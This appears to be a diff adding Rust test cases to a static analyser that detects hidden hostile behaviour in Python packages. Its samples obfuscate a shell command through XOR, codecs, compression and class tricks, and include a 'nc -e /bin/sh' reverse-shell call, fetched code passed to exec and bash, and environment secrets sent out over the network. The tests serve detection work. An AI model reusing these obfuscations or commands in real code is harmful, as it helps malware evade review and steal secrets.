@@ -552,3 +552,382 @@ fn the_same_source_gives_the_same_facts() {
     let first = format!("{:?}", analysed(Role::Package, sample).facts);
     assert_eq!(first, format!("{:?}", analysed(Role::Package, sample).facts));
 }
+
+/// Samples that each leave [`COMMAND`] in `s`.
+#[track_caller]
+fn all_run(samples: &[String]) {
+    for sample in samples {
+        runs(&format!("{sample}\nimport os\nos.system(s)\n"));
+    }
+}
+
+/// What `os.system` is given when it is given `s`.
+#[track_caller]
+fn told(sample: &str) -> Vec<String> {
+    call(&analysed(Role::Package, &format!("{sample}\nimport os\nos.system(s)\n")), "os.system").text.clone()
+}
+
+fn listed(with: impl Fn(u8) -> String) -> String {
+    COMMAND.bytes().map(with).collect::<Vec<_>>().join(", ")
+}
+
+#[test]
+fn a_bytearray_is_changed_in_place() {
+    let hidden = listed(|byte| (byte ^ 7).to_string());
+    let hex: String = COMMAND.bytes().map(|byte| format!("{:02x}", byte ^ 7)).collect();
+    let backwards: String = COMMAND.chars().rev().collect();
+    let (left, right) = COMMAND.split_at(9);
+    all_run(&[
+        format!("b = bytearray([{hidden}])\nfor i in range(len(b)):\n    b[i] ^= 7\ns = b.decode()"),
+        format!("b = bytearray.fromhex('{hex}')\nfor i, c in enumerate(b):\n    b[i] = c ^ 7\ns = bytes(b).decode()"),
+        format!("b = bytearray()\nfor c in [{hidden}]:\n    b.append(c ^ 7)\ns = b.decode('ascii')"),
+        format!("b = bytearray()\nfor c in [{hidden}]:\n    b += bytes([c ^ 7])\ns = str(b, 'utf-8')"),
+        format!(
+            "def d(b, k):\n    for i in range(len(b)):\n        b[i] ^= k\nb = bytearray([{hidden}])\nd(b, 7)\ns = b.decode()"
+        ),
+        format!("b = bytearray(b'{backwards}')\nb.reverse()\ns = b.decode()"),
+        format!("b = bytearray(b'{left}')\nb.extend(b'{right}')\ns = b.decode()"),
+        format!("b = bytearray(b'xx{right}')\nb[:2] = b'{left}'\ns = b.decode()"),
+        format!("b = bytearray(b'{left}?{right}!')\nb.pop()\ndel b[9]\ns = b.decode()"),
+        format!("b = bytearray(b'{}')\nb.insert(0, 99)\ns = b.decode()", &COMMAND[1..]),
+        format!("b = bytearray(b'{left}')\nv = b + b'{right}'\ns = v.decode()"),
+        format!("b = bytearray([{hidden}])\nm = memoryview(b)\nfor i in range(len(m)):\n    m[i] ^= 7\ns = b.decode()"),
+        format!(
+            "import array\nb = array.array('B', [{hidden}])\nfor i in range(len(b)):\n    b[i] ^= 7\ns = b.tobytes().decode()"
+        ),
+    ]);
+    // A change that is not known leaves nothing known behind, and keeps where it came from.
+    let sample = "import requests\nb = bytearray(b'print(1)')\nb += requests.get('http://x.invalid').content\nexec(b)";
+    let analysis = analysed(Role::Package, sample);
+    flow(&analysis, "network.fetch", "code.exec");
+    assert!(layers(&analysis).is_empty());
+    let sample = "import socket\nb = bytearray(64)\ns = socket.socket()\ns.recv_into(b)\nexec(bytes(b))";
+    flow(&analysed(Role::Package, sample), "network.fetch", "code.exec");
+}
+
+#[test]
+fn slices_of_lists_are_replaced_and_deleted() {
+    let codes = listed(|byte| byte.to_string());
+    all_run(&[
+        format!("l = [1, 2, {codes}]\ndel l[:2]\ns = ''.join(map(chr, l))"),
+        format!("l = [1, {codes}]\ndel l[0]\ns = ''.join(map(chr, l))"),
+        format!("l = [0, 0]\nl[0:2] = [{codes}]\ns = ''.join(map(chr, l))"),
+    ]);
+    assert_eq!(told("l = list('abcd')\nl[::2], l[1::2] = l[1::2], l[::2]\ns = ''.join(l)"), ["badc"]);
+    assert!(told("l = ['a', 'b']\nl[x:] = ['c']\ns = l[0]").is_empty());
+}
+
+#[test]
+fn a_codec_that_is_not_known_gives_nothing() {
+    for sample in [
+        r"s = b'\x83\xa4\x99\x93'.decode('cp037')",
+        "s = b'curl'.decode('nothing')",
+        "s = 'curl'.encode('nothing').decode()",
+        "s = b'curl'.decode(codec)",
+        "s = str(b'curl', 'cp500')",
+    ] {
+        assert!(told(sample).is_empty(), "{sample}");
+    }
+    for (sample, wanted) in [
+        (r"s = b'\x00c\x00u'.decode('utf-16-be')", "cu"),
+        (r"s = b'c\x00u\x00'.decode('utf_16_le')", "cu"),
+        (r"s = b'\xfe\xff\x00c\x00u'.decode('utf-16')", "cu"),
+        (r"s = b'c\x00\x00\x00u\x00\x00\x00'.decode('utf-32-le')", "cu"),
+        ("s = 'curl'.encode('utf-32').decode('utf-32')", "curl"),
+        ("s = 'curl'.encode('utf-16').decode('utf-16')", "curl"),
+        (r"s = b'\x93curl\x94'.decode('cp1252')", "\u{201c}curl\u{201d}"),
+        (r"s = b'\xe0curl'.decode('cp1251')", "\u{430}curl"),
+        ("s = b'bcher-kva'.decode('punycode')", "b\u{fc}cher"),
+        ("s = b'xn--bcher-kva.invalid'.decode('idna')", "b\u{fc}cher.invalid"),
+        ("s = b'c+AHU-rl'.decode('utf-7')", "curl"),
+        ("import quopri\ns = quopri.decodestring(b'=63url').decode()", "curl"),
+        ("import codecs\ns = codecs.decode(b'=63url', 'quopri').decode()", "curl"),
+        ("import binascii\ns = binascii.a2b_uu(b'$8W5R; ').decode()", "curl"),
+        (
+            r"import codecs
+s = codecs.decode(b'c\x00u\x00', 'utf-16-le')",
+            "cu",
+        ),
+        (r"s = b'\xef\xbb\xbfcurl'.decode('utf-8-sig')", "curl"),
+        (r"s = b'cu\xffrl'.decode('utf-8', 'ignore')", "curl"),
+        (r"s = b'\xe9'.decode('latin-1')", "\u{e9}"),
+    ] {
+        assert_eq!(told(sample), [wanted], "{sample}");
+    }
+}
+
+#[test]
+fn methods_do_what_their_arguments_say() {
+    for (sample, wanted) in [
+        ("s = b'xxcurlxx'.strip(b'x').decode()", "curl"),
+        ("s = b'xxcurlxx'.rstrip(b'x').decode()", "xxcurl"),
+        ("t = 'a-b-c-d'\ns = t[t.find('-', 2):]", "-c-d"),
+        ("t = b'a-b-c-d'\ns = t[t.find(b'-', 2):].decode()", "-c-d"),
+        ("s = str('aXbXc'.count('X', 2))", "1"),
+        ("s = ' '.join(sorted(['bbb', 'a', 'cc'], key=len))", "a cc bbb"),
+        ("s = ' '.join(sorted('abc', reverse=True))", "c b a"),
+        ("l = [(2, 'b'), (1, 'a'), (3, 'c')]\nl.sort(key=lambda p: -p[0])\ns = ''.join(p[1] for p in l)", "cba"),
+        ("l = ['b', 'a']\nl.sort(reverse=True)\ns = ''.join(l)", "ba"),
+        (
+            "from itertools import zip_longest\ns = ''.join(a + b for a, b in zip_longest('ace', 'bd', fillvalue=''))",
+            "abcde",
+        ),
+        ("s = str(round(3.14159, 2))", "3.14"),
+        ("s = b'c.u.r.l'.translate(None, b'.').decode()", "curl"),
+        ("s = max(['a', 'ccc', 'bb'], key=len)", "ccc"),
+        ("s = 'a b c'.split(None, 1)[1]", "b c"),
+        ("s = 'a,b,c'.split(sep=',', maxsplit=1)[1]", "b,c"),
+        ("s = 'ab'.center(5, '*')", "**ab*"),
+        ("s = str(0.5 + 0.25 * 3)", "1.25"),
+        ("s = str(b'abcabc'.rindex(b'b'))", "4"),
+    ] {
+        assert_eq!(told(sample), [wanted], "{sample}");
+    }
+    for sample in
+        ["l = ['b', 1, 'a']\nl.sort()\ns = l[0]", "s = sorted(['b', 'a'], key=unknown)[0]", "s = str('abc'.index('x'))"]
+    {
+        assert!(told(sample).is_empty(), "{sample}");
+    }
+}
+
+#[test]
+fn harmless_calls_do_not_hide_what_follows() {
+    let decoys = "open('x')\n".repeat(900);
+    let analysis = analysed(Role::Package, &format!("import os\n{decoys}os.system('{COMMAND}')\n"));
+    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
+    assert!(analysis.gaps.is_empty(), "{:?}", analysis.gaps);
+    // Calls that all differ are too many: the rare ones are kept, and that some are not is told.
+    let decoys: String = (0..900).map(|at| format!("open('x{at}')\n")).collect();
+    let analysis = analysed(Role::Package, &format!("import os\n{decoys}os.system('{COMMAND}')\n"));
+    assert_eq!(call(&analysis, "os.system").text, [COMMAND]);
+    assert!(analysis.gaps.iter().any(|gap| gap.kind == model::GapKind::Limit), "{:?}", analysis.gaps);
+}
+
+#[test]
+fn padding_does_not_hide_a_command() {
+    let last = |command: &str| told(&format!("s = {command}")).last().cloned().unwrap_or_default();
+    assert!(last(&format!("' ' * 5000 + '{COMMAND}'")).ends_with(COMMAND));
+    let words: String = (0..400).map(|at| format!("echo {at};")).collect();
+    assert!(last(&format!("'{words} {COMMAND}'")).ends_with(COMMAND));
+    let many: String = (0..50).map(|at| format!("'a{at}', ")).collect();
+    let sample = format!("import subprocess\nsubprocess.call(args=[{many}'{COMMAND}'])");
+    let analysis = analysed(Role::Package, &sample);
+    assert!(call(&analysis, "subprocess.call").text.iter().any(|text| text == COMMAND));
+}
+
+#[test]
+fn a_list_of_words_is_one_command_too() {
+    let texts = |sample: &str, callee: &str| call(&analysed(Role::Package, sample), callee).text.clone();
+    let sample = "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'x'], shell=False)";
+    assert_eq!(texts(sample, "subprocess.run"), ["schtasks", "/create", "/tn", "x", "schtasks /create /tn x"]);
+    let sample = "import os\nos.execlp('nc', 'nc', '-e', '/bin/sh')";
+    assert!(texts(sample, "os.execlp").contains(&"nc nc -e /bin/sh".to_owned()));
+    let sample = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', name])";
+    assert!(texts(sample, "subprocess.Popen").contains(&"sys.executable -m {}".to_owned()));
+}
+
+#[test]
+fn a_fetch_with_a_body_sends() {
+    let sends = |sample: &str, callee: &str| {
+        let analysis = analysed(Role::Package, &format!("import urllib.request, requests, urllib3, os\n{sample}"));
+        call(&analysis, callee).behaviour.contains(&"network.send".to_owned())
+    };
+    for (sample, callee) in [
+        ("urllib.request.urlopen('http://x.invalid', data=b'a')", "urllib.request.urlopen"),
+        ("urllib.request.urlopen('http://x.invalid', os.getenv('A').encode())", "urllib.request.urlopen"),
+        ("urllib.request.Request('http://x.invalid', data=b'a', method='POST')", "urllib.request.Request"),
+        ("r = urllib.request.Request('http://x.invalid', b'a')\nurllib.request.urlopen(r)", "urllib.request.urlopen"),
+        ("requests.request('POST', 'http://x.invalid', json={'a': 1})", "requests.request"),
+        ("requests.Session().request(method='put', url='http://x.invalid')", "requests.Session.request"),
+        ("urllib3.PoolManager().request('POST', 'http://x.invalid', body=b'a')", "urllib3.PoolManager.request"),
+        ("requests.get('http://x.invalid', json={'a': 1})", "requests.get"),
+    ] {
+        assert!(sends(sample, callee), "{sample}");
+    }
+    for (sample, callee) in [
+        ("urllib.request.urlopen('http://x.invalid')", "urllib.request.urlopen"),
+        ("urllib.request.urlopen('http://x.invalid', None)", "urllib.request.urlopen"),
+        ("def f(url, data=None):\n    return urllib.request.urlopen(url, data)", "urllib.request.urlopen"),
+        ("requests.request('GET', 'http://x.invalid')", "requests.request"),
+        ("urllib3.PoolManager().request('GET', 'http://x.invalid', fields={'a': 1})", "urllib3.PoolManager.request"),
+        ("requests.get('http://x.invalid', timeout=3)", "requests.get"),
+    ] {
+        assert!(!sends(sample, callee), "{sample}");
+    }
+    let sample = "import urllib.request, os\n\
+                  r = urllib.request.Request('http://x.invalid', data=os.getenv('T').encode())\nurllib.request.urlopen(r)";
+    flow(&analysed(Role::Package, sample), "environment.read", "network.send");
+}
+
+#[test]
+fn what_a_shell_is_fed_runs() {
+    for sample in [
+        r#"import subprocess, sys
+subprocess.run([sys.executable, '-'], input='import os\nos.system("x")')"#,
+        r#"import subprocess
+p = subprocess.Popen(['python3'], stdin=subprocess.PIPE)
+p.communicate(b'import os\nos.system("x")')"#,
+        r#"import subprocess
+p = subprocess.Popen('/usr/bin/python', stdin=-1)
+p.stdin.write(b'import os\nos.system("x")')"#,
+    ] {
+        assert_eq!(call(&analysed(Role::Package, sample), "os.system").layer, 1, "{sample}");
+    }
+    let fed = |program: &str| {
+        let sample = format!(
+            "import subprocess, requests\np = subprocess.Popen(['{program}'], stdin=-1)\n\
+             p.communicate(requests.get('http://x.invalid').content)"
+        );
+        flows(&analysed(Role::Package, &sample)).iter().any(|flow| flow.sink == "process.spawn")
+    };
+    assert!(fed("bash") && !fed("gpg"));
+}
+
+#[test]
+fn archives_memory_and_new_libraries_are_ends_of_flows() {
+    for (sample, source, sink) in [
+        ("import zipfile\nexec(zipfile.ZipFile('a.zip').read('b.py'))", "file.read", "code.exec"),
+        ("import tarfile\nexec(tarfile.open('a.tgz').extractfile('b').read())", "file.read", "code.exec"),
+        ("import ctypes, base64\nctypes.memmove(p, base64.b64decode(x), 4)", "decode.base64", "native.pointer"),
+        (
+            "import os, urllib3\nurllib3.HTTPSConnectionPool('x.invalid').request('POST', '/', body=os.getenv('A'))",
+            "environment.read",
+            "network.send",
+        ),
+        (
+            "import os, slack_sdk\nslack_sdk.WebClient('t').chat_postMessage(text=os.getenv('A'))",
+            "environment.read",
+            "network.send",
+        ),
+        (
+            "import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.send(os.getenv('A'))",
+            "environment.read",
+            "network.send",
+        ),
+        ("import os, socketio\nc = socketio.Client()\nc.emit('a', os.getenv('A'))", "environment.read", "network.send"),
+        (
+            "import requests, ctypes\nctypes.pythonapi.PyRun_SimpleString(requests.get('http://x.invalid').content)",
+            "network.fetch",
+            "code.exec",
+        ),
+        (
+            "import yaml, requests\nyaml.load(requests.get('http://x.invalid').text, Loader=yaml.UnsafeLoader)",
+            "network.fetch",
+            "code.deserialize",
+        ),
+        (
+            "import asyncio, requests\nasync def f():\n    loop = asyncio.get_event_loop()\n    \
+             await loop.subprocess_shell(None, requests.get('http://x.invalid').text)",
+            "network.fetch",
+            "process.spawn",
+        ),
+    ] {
+        flow(&analysed(Role::Package, sample), source, sink);
+    }
+    let sample = "import zipfile, io, requests\n\
+                  exec(zipfile.ZipFile(io.BytesIO(requests.get('http://x.invalid').content)).read('b'))";
+    let analysis = analysed(Role::Package, sample);
+    flow(&analysis, "network.fetch", "code.exec");
+    assert!(flows(&analysis).iter().all(|flow| flow.source != "file.read"));
+    let safe = "import yaml, requests\nyaml.load(requests.get('http://x.invalid').text, Loader=yaml.SafeLoader)";
+    assert!(flows(&analysed(Role::Package, safe)).is_empty());
+}
+
+#[test]
+fn pure_libraries_are_computed() {
+    use base64::Engine as _;
+    use std::io::Write as _;
+    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    zlib.write_all(COMMAND.as_bytes()).unwrap();
+    let zlib = base64::engine::general_purpose::STANDARD.encode(zlib.finish().unwrap());
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gzip.write_all(COMMAND.as_bytes()).unwrap();
+    let gzip = base64::engine::general_purpose::STANDARD.encode(gzip.finish().unwrap());
+    let spaced: String = COMMAND.chars().flat_map(|c| [c, '~']).collect();
+    let numbered = COMMAND.bytes().map(|byte| format!("%{byte};")).collect::<String>();
+    let codes = listed(|byte| byte.to_string());
+    let hidden = listed(|byte| (byte ^ 7).to_string());
+    let floats = listed(|byte| format!("{byte}.0"));
+    let length = COMMAND.len();
+    let (left, right) = COMMAND.split_at(9);
+    all_run(&[
+        format!("import re\ns = re.sub('~', '', '{spaced}')"),
+        format!("import re\np = re.compile('~')\ns = p.sub('', '{spaced}')"),
+        format!(
+            r"import re
+s = re.sub(r'(.)~', r'\1', '{spaced}')"
+        ),
+        format!(
+            r"import re
+s = re.sub(r'%(\d+);', lambda m: chr(int(m.group(1))), '{numbered}')"
+        ),
+        format!(
+            r"import re
+s = ''.join(chr(int(n)) for n in re.findall(r'\d+', '{numbered}'))"
+        ),
+        format!("import re\ns = ''.join(re.split('~', '{spaced}'))"),
+        format!("import io\nf = io.StringIO()\nf.write('{left}')\nf.write('{right}')\ns = f.getvalue()"),
+        format!("import io\nf = io.BytesIO(b'{COMMAND}')\ns = (f.read(9) + f.read()).decode()"),
+        format!("import ast\ns = ''.join(map(chr, ast.literal_eval('[{codes}]')))"),
+        format!(
+            "import zlib, base64\nd = zlib.decompressobj()\ns = (d.decompress(base64.b64decode('{zlib}')) + d.flush()).decode()"
+        ),
+        format!(
+            "import gzip, io, base64\ns = gzip.GzipFile(fileobj=io.BytesIO(base64.b64decode('{gzip}'))).read().decode()"
+        ),
+        format!("s = '{{a}}{{b}}'.format_map({{'a': '{left}', 'b': '{right}'}})"),
+        format!("from string import Template\ns = Template('$a${{b}}').substitute(a='{left}', b='{right}')"),
+        format!("from itertools import islice\ns = ''.join(islice('xx{COMMAND}', 2, None))"),
+        format!("from itertools import repeat\ns = ''.join(chr(a ^ b) for a, b in zip([{hidden}], repeat(7)))"),
+        format!("from operator import methodcaller\ns = methodcaller('replace', '~', '')('{spaced}')"),
+        format!("class A:\n    def __add__(self, other):\n        return '{left}' + other\ns = A() + '{right}'"),
+        format!("class A:\n    def __getitem__(self, key):\n        return '{left}' + key\ns = A()['{right}']"),
+        format!("class A:\n    def __getattr__(self, name):\n        return '{COMMAND}'\ns = A().anything"),
+        format!("class A:\n    def __str__(self):\n        return '{COMMAND}'\ns = str(A())"),
+        format!("class A:\n    def __str__(self):\n        return '{left}'\ns = f'{{A()}}{right}'"),
+        format!(
+            "x = 2\nmatch x:\n    case 1:\n        s = 'no'\n    case 2 | 3:\n        s = '{COMMAND}'\n    case _:\n        s = 'else'"
+        ),
+        format!("def deco(c):\n    c.a = '{COMMAND}'\n    return c\n@deco\nclass A:\n    pass\ns = A.a"),
+        format!("s = ''.join(chr(int(c)) for c in [{floats}])"),
+        format!(
+            "import struct\ns = ''.join(chr(int(f)) for f in struct.unpack('{length}d', struct.pack('{length}d', {floats})))"
+        ),
+        format!("import struct\ns = ''.join(chr(r[0]) for r in struct.iter_unpack('B', bytes([{codes}])))"),
+        format!("d = dict.fromkeys('ab', '{COMMAND}')\ns = d['b']"),
+    ]);
+    runs(&format!("import pydoc\npydoc.locate('os.system')('{COMMAND}')"));
+    runs(&format!("exec \"import os; os.system('{COMMAND}')\" in {{}}\nprint 'old'\n"));
+    // A digest that is fed piece by piece: md5 of `hello`.
+    let digest = "5d41402abc4b2a76b9719d911017c592";
+    assert_eq!(
+        told("import hashlib\nh = hashlib.md5()\nh.update(b'he')\nh.update(b'llo')\ns = h.hexdigest()"),
+        [digest]
+    );
+    assert_eq!(told("import hashlib\ns = hashlib.new('md5', b'hello').hexdigest()"), [digest]);
+    // Patterns that cannot be run, and a pattern that would grow without end.
+    assert!(told("import re\ns = re.sub('(?<=a)b', '', 'ab')").is_empty());
+    assert!(told("import re\ns = re.sub('(a{1000}){1000}', '', 'ab')").is_empty());
+}
+
+#[test]
+fn a_cipher_with_its_key_beside_it_is_undone() {
+    // The example of the Fernet specification: `hello`, under a key that is public since.
+    let sample = "from cryptography.fernet import Fernet\n\
+                  k = b'cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4='\n\
+                  t = b'gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA=='\n\
+                  s = Fernet(k).decrypt(t)";
+    assert_eq!(told(sample), ["hello"]);
+    let analysis = analysed(Role::Package, &format!("{sample}\nimport os\nos.system(s)"));
+    flow(&analysis, "decode.decrypt", "process.spawn");
+    let sample = "from Crypto.Cipher import AES\nk = bytes.fromhex('000102030405060708090a0b0c0d0e0f')\n\
+                  c = AES.new(k, AES.MODE_ECB)\ns = c.decrypt(bytes.fromhex('69c4e0d86a7b0430d8cdb78070b4c55a')).hex()";
+    assert_eq!(told(sample), ["00112233445566778899aabbccddeeff"]);
+    let sample = "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\
+                  k = bytes.fromhex('2b7e151628aed2a6abf7158809cf4f3c')\ni = bytes.fromhex('000102030405060708090a0b0c0d0e0f')\n\
+                  d = Cipher(algorithms.AES(k), modes.CBC(i)).decryptor()\n\
+                  s = (d.update(bytes.fromhex('7649abac8119b246cee98e9b12e9197d')) + d.finalize()).hex()";
+    assert_eq!(told(sample), ["6bc1bee22e409f96e93d7e117393172a"]);
+    let sample = "from Crypto.Cipher import ARC4\ns = ARC4.new(b'Key').decrypt(bytes.fromhex('bbf316e8d940af0ad3'))";
+    assert_eq!(told(sample), ["Plaintext"]);
+}
